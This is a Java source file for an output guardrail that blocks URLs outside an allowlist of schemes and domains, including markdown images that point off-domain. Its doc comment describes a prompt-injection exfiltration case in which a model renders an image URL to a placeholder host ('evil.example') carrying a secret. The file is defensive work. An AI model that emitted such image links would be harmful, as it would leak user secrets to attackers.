package dev.sluice.guardrails;

import dev.sluice.guardrail.GuardrailResult;
import dev.sluice.guardrail.OutputGuardrail;
import dev.sluice.model.ChatResponse;
import dev.sluice.pipeline.CallContext;
import java.net.URI;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * URL rules for answers: only allowed schemes, only allowed domains (and their subdomains), and no
 * markdown images pointing outside them — the classic exfiltration channel, where an injected
 * prompt makes the model render {@code ![](https://evil.example/?q=<secret>)}.
 */
public final class UrlRules implements OutputGuardrail {

  private static final Pattern URL = Pattern.compile("\\b([a-zA-Z][a-zA-Z0-9+.-]{1,15}):(//)?[^\\s<>\"'`)\\]]{1,2000}");
  private static final Pattern MD_IMAGE = Pattern.compile("!\\[[^\\]\\n]{0,500}\\]\\(\\s{0,5}([^)\\s]{1,2000})");

  private final Set<String> schemes;
  private final Set<String> domains;

  public UrlRules(Set<String> schemes, Set<String> domains) {
    this.schemes = schemes.stream().map(s -> s.toLowerCase(Locale.ROOT)).collect(java.util.stream.Collectors.toSet());
    this.domains = domains.stream().map(s -> s.toLowerCase(Locale.ROOT)).collect(java.util.stream.Collectors.toSet());
  }

  @Override
  public String name() {
    return "url-rules";
  }

  @Override
  public GuardrailResult check(ChatResponse response, CallContext call) {
    String text = response.text();
    Matcher img = MD_IMAGE.matcher(text);
    while (img.find()) {
      if (!allowedDomain(img.group(1))) {
        return GuardrailResult.block("markdown image to a domain outside the allowlist");
      }
    }
    Matcher m = URL.matcher(text);
    while (m.find()) {
      String scheme = m.group(1).toLowerCase(Locale.ROOT);
      if (m.group(2) == null && !scheme.equals("mailto") && !scheme.equals("javascript") && !scheme.equals("data")) {
        continue; // "note: this" is not a URL
      }
      if (!schemes.contains(scheme)) {
        return GuardrailResult.block("URL scheme '" + scheme + "' is not allowed");
      }
      if (m.group(2) != null && !allowedDomain(m.group())) {
        return GuardrailResult.block("URL to a domain outside the allowlist");
      }
    }
    return GuardrailResult.pass();
  }

  private boolean allowedDomain(String url) {
    try {
      String host = URI.create(url.trim()).getHost();
      if (host == null) {
        return false;
      }
      String h = host.toLowerCase(Locale.ROOT);
      for (String d : domains) {
        if (h.equals(d) || h.endsWith("." + d)) {
          return true;
        }
      }
      return false;
    } catch (IllegalArgumentException e) {
      return false;
    }
  }
}
